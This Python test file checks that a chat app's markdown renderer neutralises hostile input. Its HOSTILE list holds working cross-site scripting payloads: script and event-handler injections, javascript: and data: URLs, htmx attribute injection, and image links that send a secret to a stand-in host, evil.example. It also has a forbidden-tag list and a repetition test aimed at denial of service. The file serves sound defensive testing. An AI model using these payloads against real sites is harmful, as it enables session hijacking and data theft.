import re
from html.parser import HTMLParser

import pytest

from chatapp.conversations.markdown import MarkdownStream, render_markdown
from chatapp.conversations.markdown.code import MAX_HIGHLIGHTED
from chatapp.conversations.markdown.formulas import MAX_FORMULA

# What browsers have executed, loaded or submitted from text that somebody else wrote (C01, C05, C07, C10).
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><image href=https://evil.example/a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<div hx-get=/console/ hx-trigger=load data-hx-post=/c/ hx-on:click=alert(1) id=send>x</div>",
    "<form action=/accounts/logout/ method=post><button>x</button><input name=a></form>",
    "<p hx-swap-oob=true id=composer style='background:url(https://evil.example)'>x</p>",
    "<link rel=prefetch href=https://evil.example><base href=https://evil.example><meta http-equiv=refresh content=0>",
    "![x](https://evil.example/?q=SECRET)",
    "![x][ref]\n\n[ref]: https://evil.example/?q=SECRET",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](\x01javascript:alert(1)) [x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](//evil.example) [x](/accounts/logout/)",
    '<javascript:alert(1)> <https://ok.example/"onmouseover=alert(1)>',
    '[x](https://ok.example "onmouseover=alert(1) \\" onclick=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$ $$<img src=x onerror=alert(1)>$$",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[1" onclick="alert(1)] [<b>1</b>]',
]
ALLOWED_ATTRIBUTES = {
    "aria-label", "class", "columnalign", "data-testid", "display", "displaystyle", "fence", "form", "href", "largeop",
    "linebreak", "linethickness", "mathvariant", "movablelimits", "rel", "scriptlevel", "separator", "start",
    "stretchy", "tabindex", "target", "title", "width",
}  # fmt: skip
HARMLESS = ("https://ok.example", "mailto:", "#source-")
FORBIDDEN_TAGS = {"script", "style", "img", "image", "svg", "iframe", "form", "button", "input", "link", "base", "meta"}


class Audit(HTMLParser):
    """Collects what a browser could act upon."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(tag)
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.problems.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith(
                ("https://ok.example", "http://", "mailto:", "#source-")
            ):
                self.problems.append(f"href {value}")


def audit(html: str) -> list[str]:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


def render(text: str) -> str:
    return render_markdown(text, message_id="m")


def shown(stream: MarkdownStream) -> str:
    stream.render(force=True)
    return "".join(stream.closed) + stream.open_html


@pytest.mark.parametrize("payload", HOSTILE)
def test_c01_hostile_text_is_inert(payload: str) -> None:
    assert audit(render(payload)) == []


@pytest.mark.parametrize("payload", HOSTILE)
def test_c06_hostile_text_is_inert_at_every_cut(payload: str) -> None:
    for cut in range(len(payload) + 1):
        stream = MarkdownStream("m")
        stream.feed(payload[:cut])
        assert audit(shown(stream)) == []
        stream.feed(payload[cut:])
        assert shown(stream) == render(payload)


def test_the_audit_sees_what_it_is_there_for() -> None:
    assert audit("<script>") == ["script"]
    assert audit("<a href='javascript:x' onclick='x'>") == ["href javascript:x", "a onclick"]


def test_citations_become_links_to_their_sources() -> None:
    html = render("Thirty days [2], `a[1]` and [3](https://ok.example).")
    assert re.findall(r'href="([^"]+)"', html) == ["#source-m-2", "https://ok.example"]
    assert 'data-testid="citation"' in html
    assert "<code>a[1]</code>" in html


def test_only_known_sources_are_linked_when_they_are_given() -> None:
    html = render_markdown("One [1], two [2].", message_id="m", sources={1})
    assert "#source-m-1" in html
    assert "two [2]" in html


def test_the_message_id_cannot_break_out_of_its_attribute() -> None:
    assert audit(render_markdown("[1]", message_id='"><script>')) == []


def test_links_leave_safely_and_show_their_host() -> None:
    html = render("[the wiki](https://ok.example/wiki)")
    assert 'title="ok.example"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_image_is_its_description() -> None:
    assert render("![the *office*](https://ok.example/a.png)") == "<p>the office</p>\n"


def test_code_is_highlighted_once_its_fence_has_closed() -> None:
    assert '<span class="k">def</span>' in render("```python\ndef f(): ...\n```")
    assert "<span" not in render("```python\ndef f(): ...")
    assert "<span" not in render("```nosuchlanguage\ndef f(): ...\n```")
    assert "<span" not in render(f"```python\n{'x = 1; ' * MAX_HIGHLIGHTED}\n```")


def test_only_the_first_paragraph_of_an_item_is_bare_whatever_blank_lines_its_list_has() -> None:
    assert render("- one\n\n- two\n\n  more") == "<ul>\n<li>one</li>\n<li>two\n<p>more</p>\n</li>\n</ul>\n"


def test_a_line_of_dashes_makes_no_heading_of_the_paragraph_above() -> None:
    assert render("text\n---\ntext\n===") == "<p>text</p>\n<hr>\n<p>text\n===</p>\n"


def test_table_alignment_is_a_class_because_styles_are_refused() -> None:
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert 'class="align-center"' in html
    assert 'class="align-right"' in html
    assert "style" not in html


@pytest.mark.parametrize(
    "text", ["$a^2$", "$a^2$ is 4", "$a^2$ \\", "\\(a^2\\)", "\\[a^2\\]", "$$a^2$$", "$$\na^2\n$$"]
)
def test_formulas_become_mathml(text: str) -> None:
    assert "<msup><mi>a</mi><mn>2</mn></msup>" in render(text)


@pytest.mark.parametrize("text", ["It costs $5 and then $10.", "$\\left($", f"${'x' * (MAX_FORMULA + 1)}$", "$$\nopen"])
def test_what_is_no_formula_stays_text(text: str) -> None:
    assert "<math" not in render(text)


@pytest.mark.parametrize("piece", ["[", "![", "*a", "> ", "`", "$$\n", "|a", "[9", "<", "&", "~~a", "\\(", "(a+)+$"])
def test_c12_hostile_repetition_is_rendered(piece: str) -> None:
    assert render(piece * 2_000)
